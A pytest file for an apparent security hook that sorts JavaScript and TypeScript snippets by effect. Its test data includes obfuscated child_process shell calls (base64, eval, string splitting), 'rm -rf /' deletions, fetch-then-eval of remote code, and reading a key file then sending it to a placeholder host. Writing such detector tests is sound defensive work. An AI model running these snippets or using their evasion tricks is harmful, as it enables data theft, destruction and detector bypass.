from collections.abc import Callable

import pytest

from security_hooks.model.word import Hole, HoleKind
from security_hooks.shell.inline.reading import Value

Told = Callable[[str, str | Value], list[str]]
X = Hole(HoleKind.PARAMETER, "$X")


@pytest.mark.parametrize(
    "code",
    [
        "console.log('rm -rf /')",
        "JSON.parse('{}').a; [1, 2].map(x => x * 2).join(',')",
        "const x = `a${1 + 2}`; x.toUpperCase()",
        "/* require('fs').unlinkSync('a') */ // eval(x)",
        "function f(a, {b}, ...c) { return a + b } f(1, {b: 2}, 3)",
        "require('assert').equal(1, 1)",
    ],
)
def test_code_that_only_computes_has_no_effect(told: Told, code: str) -> None:
    assert told("javascript", code) == []


@pytest.mark.parametrize(
    "code",
    [
        "require('child_process').exec('id')",
        "require('node:child_process').execSync('id')",
        "const {execSync: e} = require('child_process'); e(`id`)",
        "import * as c from 'child_process'; c.exec('id')",
        "import {exec} from 'node:child_process'; exec('i' + 'd')",
        "require('child_' + 'process')['ex' + 'ec']('id')",
        "process.mainModule.require('child_process').execSync('id')",
        "globalThis.require('child_process').exec('id')",
        'eval(\'require("child_process").exec("id")\')',
        'new Function(\'require("child_process").exec("id")\')()',
        "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=', 'base64').toString())",
        "eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk='))",
        "require('child_process').exec(String.fromCharCode(105, 100))",
        "require('child_process').exec(['i', 'd'].join(''))",
        "['id'].forEach(c => require('child_process').execSync(c))",
        "import('child_process').then(c => c.exec('id'))",
        "(async () => { const c = await import('child_process'); c.exec('id') })()",
    ],
)
def test_a_shell_is_seen_however_it_is_spelled(told: Told, code: str) -> None:
    assert told("javascript", code) == ["shell id"]


@pytest.mark.parametrize(
    ("code", "found"),
    [
        ("require('child_process').spawn('rm', ['-rf', '/'])", ["argv rm -rf /"]),
        ("require('child_process').spawnSync('id', {shell: true})", ["shell id"]),
        ("require('fs').rmSync('/x', {recursive: true})", ["deletes /x below"]),
        ("import fs from 'fs/promises'; await fs.readFile('/x')", ["reads /x"]),
        ("const fs = require('fs').promises; fs.writeFile('/x', 'a')", ["writes /x"]),
        (
            "const p = require('path'), o = require('os'); require('fs').unlink(p.join(o.homedir(), 'x'))",
            ["deletes /home/me/x"],
        ),
        ("fetch('https://e.example/')", ["connects https://e.example/"]),
        ("process.env.A", ["reads_env A"]),
        ("const {A} = process.env", ["reads_env A"]),
        ("process.env['A'] = 1", ["sets_env A"]),
        ("Deno.removeSync('/x')", ["deletes /x"]),
        ("Bun.spawn(['rm', '/x'])", ["argv rm /x"]),
        ("process.kill(1)", ["signals 1"]),
        ("eval(process.argv[2])", ["opaque unknown"]),
        (
            "fetch('https://e.example/').then(r => r.text()).then(eval)",
            ["connects https://e.example/", "opaque network"],
        ),
        ("require('x').load('/etc/x')", ["names /etc/x perhaps"]),
        (
            "fetch('https://e.example/', {method: 'POST', body: require('fs').readFileSync('/k')})",
            ["reads /k", "connects https://e.example/ sends", "flow 0 1"],
        ),
        (
            "require('fs').readFile('/k', (e, d) => { require('https').request('https://e.example/').end(d) })",
            ["reads /k", "connects https://e.example/ sends", "flow 0 1"],
        ),
        ("console.log(process.env)", ["reads_env *", "writes /dev/stdout", "flow 0 1"]),
    ],
)
def test_calls_have_the_effects_of_the_table(told: Told, code: str, found: list[str]) -> None:
    assert told("javascript", code) == found


def test_a_hole_in_a_literal_stays_one(told: Told) -> None:
    assert told("javascript", ("require('fs').unlink(`/a/", X, "`)")) == ["deletes /a/?"]


def test_types_do_not_hide_calls(told: Told) -> None:
    code = "import { unlinkSync } from 'fs';\nconst name: string = 'a';\nunlinkSync(name)"
    assert "deletes a" in told("typescript", code)


@pytest.mark.parametrize(
    "code",
    [
        "let d = ''; process.stdin.on('data', c => d += c); process.stdin.on('end', () => eval(d))",
        "let d = '1'; function f(c) { d = c } f(process.argv[1]); eval(d)",
    ],
)
def test_what_a_function_leaves_outside_is_not_forgotten(told: Told, code: str) -> None:
    assert any("opaque" in line for line in told("javascript", code))
